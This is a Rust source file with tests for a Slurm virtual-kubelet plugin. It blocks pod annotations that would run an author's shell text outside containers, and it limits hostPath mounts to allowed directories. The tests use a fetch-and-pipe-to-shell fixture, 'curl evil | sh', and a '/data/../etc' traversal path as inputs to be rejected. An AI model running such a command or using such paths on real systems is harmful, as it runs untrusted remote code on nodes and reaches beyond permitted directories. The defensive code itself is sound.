//! What a pod's author may say that reaches beyond the container: shell text, runtime options, paths of the node.

use std::path::{Component, Path, PathBuf};

use super::{Refusal, request::Request};

/// Annotations whose text is shell by contract and runs outside of every container.
const SCRIPTS: [&str; 2] = [PRE_EXEC, "interlink.eu/wstunnel-client-commands"];
/// Shell text to run in the job before the pod.
pub const PRE_EXEC: &str = "slurm-job.vk.io/pre-exec";
/// Annotations with options of the container runtime, in the order in which they are inserted.
pub const RUNTIME_OPTIONS: [&str; 2] = ["slurm-job.vk.io/singularity-mounts", "slurm-job.vk.io/singularity-options"];

/// `PodScripts` and `HostPaths` of the configuration.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Policy {
    /// `PodScripts: allow`: pod authors may run shell text and set runtime options as the plugin's account.
    pub scripts: bool,
    /// `HostPaths`: directories of the node that pods may mount, with everything below.
    pub host_paths: Vec<PathBuf>,
}

impl Policy {
    /// Judges a request's annotations and job script.
    ///
    /// # Errors
    /// [`Refusal`] names the annotation and the key that would let it through.
    pub fn judge(&self, request: &Request) -> Result<(), Refusal> {
        if !request.data.job_script.trim().is_empty() {
            return Err(Refusal::unsupported(
                "the request brings its own job script (jobScript), which this plugin does not run; remove the job-script builder's URL from the API server's configuration",
            ));
        }
        if self.scripts {
            return match request.annotation(SCRIPTS[1]) {
                Some(text) if !text.trim().is_empty() => Err(Refusal::unsupported(format!(
                    "annotation {} is not supported by this plugin; remove it",
                    SCRIPTS[1]
                ))),
                _ => Ok(()),
            };
        }
        let shell = SCRIPTS.iter().chain(&RUNTIME_OPTIONS);
        for key in shell {
            if request.annotation(key).is_some_and(|text| !text.trim().is_empty()) {
                return Err(Refusal::policy(format!(
                    "annotation {key} runs text of the pod's author outside of its containers, which this site forbids; remove it, or ask the site to set PodScripts: allow"
                )));
            }
        }
        Ok(())
    }

    /// Judges a `hostPath` volume.
    ///
    /// # Errors
    /// [`Refusal`] names the volume and the key that would let it through.
    pub fn host_path(&self, volume: &str, path: &str) -> Result<PathBuf, Refusal> {
        let wanted = Path::new(path);
        let plain = wanted.is_absolute()
            && !path.contains('\0')
            && wanted.components().all(|c| matches!(c, Component::RootDir | Component::Normal(_)));
        if !plain {
            return Err(Refusal::invalid(format!(
                "hostPath of volume {volume:?} must be an absolute path without \"..\", not {path:?}"
            )));
        }
        if self.host_paths.iter().any(|allowed| wanted.starts_with(allowed)) {
            return Ok(wanted.to_owned());
        }
        Err(Refusal::policy(format!(
            "volume {volume:?} mounts {path} of the compute node, which this site does not allow; ask it to add the path to HostPaths"
        )))
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::pod::request::tests::annotated;

    #[test]
    fn shell_of_the_pod_author_needs_the_sites_word() {
        let spec = json!({"containers": [{"name": "c", "image": "i"}]});
        let allow = Policy { scripts: true, ..Policy::default() };
        for key in [PRE_EXEC, RUNTIME_OPTIONS[0], RUNTIME_OPTIONS[1]] {
            let request = annotated(spec.clone(), json!({}), json!({key: "curl evil | sh"}));
            let refusal = Policy::default().judge(&request).unwrap_err();
            assert_eq!(refusal.code, "policy");
            assert!(refusal.sentence.contains(key) && refusal.sentence.contains("PodScripts: allow"), "{refusal}");
            assert!(!refusal.sentence.contains("curl"), "{refusal}");
            assert_eq!(allow.judge(&request), Ok(()));
        }
        let plain = annotated(spec, json!({}), json!({PRE_EXEC: "  ", "other": "x"}));
        assert_eq!(Policy::default().judge(&plain), Ok(()));
    }

    #[test]
    fn a_job_script_of_the_api_server_is_refused() {
        let mut request = annotated(json!({"containers": [{"name": "c", "image": "i"}]}), json!({}), json!({}));
        request.data.job_script = "#!/bin/sh".into();
        assert_eq!(Policy { scripts: true, ..Policy::default() }.judge(&request).unwrap_err().code, "unsupported");
    }

    #[test]
    fn host_paths_are_allowed_by_whole_components() {
        let policy = Policy { host_paths: vec!["/data".into()], ..Policy::default() };
        for good in ["/data", "/data/x"] {
            assert_eq!(policy.host_path("v", good), Ok(PathBuf::from(good)));
        }
        for (bad, said) in
            [("/database", "HostPaths"), ("/", "HostPaths"), ("/data/../etc", "\"..\""), ("data", "absolute")]
        {
            let refusal = policy.host_path("v", bad).unwrap_err();
            assert!(refusal.sentence.contains(said), "{bad}: {refusal}");
        }
    }
}
